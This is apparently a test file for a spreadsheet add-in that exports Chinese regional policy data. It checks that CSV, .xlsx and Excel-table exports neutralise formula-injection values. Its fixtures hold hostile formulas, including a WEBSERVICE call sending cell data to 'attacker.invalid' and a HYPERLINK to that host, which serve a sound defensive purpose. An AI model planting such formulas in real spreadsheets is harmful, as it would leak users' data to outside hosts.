// One hostile dataset through every exit where text leaves the add-in: CSV, .xlsx (both sheets), the Excel
// table, the 来源 sheet of 转为数值, and the converted cells. Text must stay text, character for character, in
// the fake of Excel and when LibreOffice Calc opens the files.
import { execFileSync } from "node:child_process";
import * as fs from "node:fs";
import * as os from "node:os";
import * as path from "node:path";
import ExcelJS from "exceljs";
import { formatCsv } from "../../src/cli/format";
import { COLUMNS, columnIndex } from "../../src/compare/layout";
import { DatasetIndex } from "../../src/dataset/query";
import { buildWorkbook } from "../../src/export/workbook";
import { parseDataset, type Dataset, type PolicyRecord } from "../../src/model/schema";
import { convertToValues } from "../../src/office/convert-values";
import { insertTargetTable } from "../../src/office/target-table";
import { installFakeExcel } from "../helpers/fake-excel";
import { seedDataset } from "../functions/fixture";

const SOFFICE = process.env.SOFFICE_PATH ?? "soffice";
const CALL = '=WEBSERVICE("http://attacker.invalid/?x="&A1)';

/** A dataset as a hostile file could hold it: it skips the contract (the exits must not rely on it). */
function hostile(): { dataset: Dataset; records: PolicyRecord[] } {
  const ds = seedDataset();
  const base = ds.records.find(
    (r) => r.region === "佛山市" && r.subject === "装备制造" && r.kind === "target",
  )!;
  const doc = ds.documents.find((d) => d.id === base.documentId)!;
  const evilDoc = { ...doc, id: "devil", title: "+SUM(1,2)", issuer: "\t=1+1", date: null };
  const records: PolicyRecord[] = [
    {
      ...base,
      id: '=HYPERLINK("http://attacker.invalid","点")',
      documentId: "devil",
      indicator: CALL,
      unit: "=1+1",
      quote: "@SUM(1,2)",
    },
    { ...base, id: "r000000000abc", documentId: "devil", indicator: "-2+3", unit: "'亿元", quote: "\r=2+2" },
  ];
  return {
    dataset: { ...ds, documents: [...ds.documents, evilDoc], records: [...ds.records, ...records] },
    records,
  };
}

test("the contract itself refuses a unit that is not a unit", () => {
  const { dataset } = hostile();
  const parsed = parseDataset(dataset);
  expect(parsed.ok).toBe(false);
  expect(!parsed.ok && parsed.error).toMatch(/unit must be a unit/);
});

describe("CSV", () => {
  test("every field a spreadsheet would run is neutralised; Chinese opens in Excel (BOM); words, not codes", () => {
    const { records } = hostile();
    const csv = formatCsv(records, () => "=evil.txt");
    expect(csv.startsWith("\uFEFF")).toBe(true);
    const fields = csv
      .slice(1)
      .split("\r\n")
      .slice(1)
      .filter(Boolean)
      .flatMap((line) =>
        line.match(/("(?:[^"]|"")*"|[^,]*)/g)!.filter((f, i, a) => f !== "" || a[i - 1] !== ""),
      );
    for (const f of fields) {
      const text = f.startsWith('"') ? f.slice(1, -1).replace(/""/g, '"') : f;
      expect(/^[=+\-@\t\r]/.test(text)).toBe(false);
    }
    expect(csv).toContain(`"'${CALL.replace(/"/g, '""')}"`);
    expect(csv).toContain("超过"); // the comparator as a word
    expect(csv).not.toMatch(/,gt,/);
  });

  test("LibreOffice Calc opens it and runs nothing", () => {
    const { records } = hostile();
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), "csv-"));
    const file = path.join(dir, "records.csv");
    fs.writeFileSync(
      file,
      formatCsv(records, () => "a.txt"),
    );
    const out = convert(file, "csv");
    const text = fs.readFileSync(out, "utf8");
    expect(text).toContain(CALL.replace(/"/g, '""'));
    expect(text).toContain("=1+1");
    expect(text).not.toMatch(/(^|,)2(,|$)/m); // =1+1 was not computed
    expect(text).not.toMatch(/#NAME\?|Err:/);
  });
});

describe(".xlsx", () => {
  test("text cells are text, in the table and in 来源, whatever they start with — also in LibreOffice", async () => {
    const { dataset, records } = hostile();
    const index = new DatasetIndex({ ...dataset, records: [...dataset.records] });
    const wb = await buildWorkbook(ExcelJS, {
      region: "佛山市",
      records,
      docOf: (id) => index.document(id),
      dataset,
    });
    const table = wb.worksheets[0];
    records.forEach((rec, i) => {
      const row = table.getRow(i + 2);
      COLUMNS.forEach((c, k) => {
        const v = row.getCell(k + 1).value;
        const isFormula = typeof v === "object" && v !== null && "formula" in v;
        expect([c.key, isFormula]).toEqual([c.key, Boolean(c.formula)]);
      });
      expect(row.getCell(columnIndex("unit") + 1).value).toBe(rec.unit);
      expect(row.getCell(columnIndex("id") + 1).value).toBe(rec.id);
      expect(row.getCell(columnIndex("indicator") + 1).value).toBe(rec.indicator);
    });
    for (const row of wb.getWorksheet("来源")!.getSheetValues().slice(2))
      for (const v of (row as unknown[]).slice(1))
        expect(typeof v === "object" && v !== null && "formula" in v).toBe(false);

    const dir = fs.mkdtempSync(path.join(os.tmpdir(), "xlsx-"));
    const file = path.join(dir, "t.xlsx");
    await wb.xlsx.writeFile(file);
    const csv = fs.readFileSync(convert(file, "csv"), "utf8");
    expect(csv).toContain(CALL.replace(/"/g, '""'));
    expect(csv).toContain("-2+3");
    expect(csv).toContain("=1+1");
  });
});

describe("Excel", () => {
  test("the inserted table and the 来源 sheet of 转为数值 hold the text, no formula outside the formula columns", async () => {
    const state = installFakeExcel();
    const { dataset, records } = hostile();
    const index = new DatasetIndex(dataset);
    await insertTargetTable("佛山市", records, (id) => index.document(id));
    const sheet = state.sheet("佛山市目标");
    records.forEach((rec, i) => {
      COLUMNS.forEach((c, k) => {
        const cell = sheet.peek(i + 1, k);
        expect([c.key, cell?.formula !== undefined]).toEqual([c.key, Boolean(c.formula)]);
      });
      const text = (key: "id" | "indicator" | "unit") => sheet.peek(i + 1, columnIndex(key))?.value;
      expect([text("id"), text("indicator"), text("unit")]).toEqual([rec.id, rec.indicator, rec.unit]);
    });

    // 转为数值: a POLICY cell whose answer is hostile text, and the 来源 sheet listing the hostile records
    const other = state.sheets[0];
    other.cell(0, 0).formula = '=POLICY.UNIT("佛山","装备制造")';
    state.evaluate = (f) => (f.includes("POLICY.UNIT") ? "=1+1" : undefined);
    state.active = 0;
    const names = new DatasetIndex({ ...dataset, records: records.map((r) => ({ ...r, region: "佛山市" })) });
    const r = await convertToValues(names);
    expect(other.peek(0, 0)).toMatchObject({ value: "=1+1" });
    expect(other.peek(0, 0)?.formula).toBeUndefined();
    const src = state.sheet(r.sourceSheet!);
    for (let row = 1; src.peek(row, 0) !== undefined; row++)
      for (let c = 0; c < 11; c++) expect(src.peek(row, c)?.formula).toBeUndefined();
  });
});

function convert(file: string, to: string): string {
  const out = fs.mkdtempSync(path.join(os.tmpdir(), "lo-out-"));
  const profile = fs.mkdtempSync(path.join(os.tmpdir(), "lo-profile-"));
  execFileSync(
    SOFFICE,
    [`-env:UserInstallation=file://${profile}`, "--headless", "--convert-to", to, "--outdir", out, file],
    { stdio: "pipe", timeout: 120_000 },
  );
  return path.join(out, fs.readdirSync(out)[0]);
}
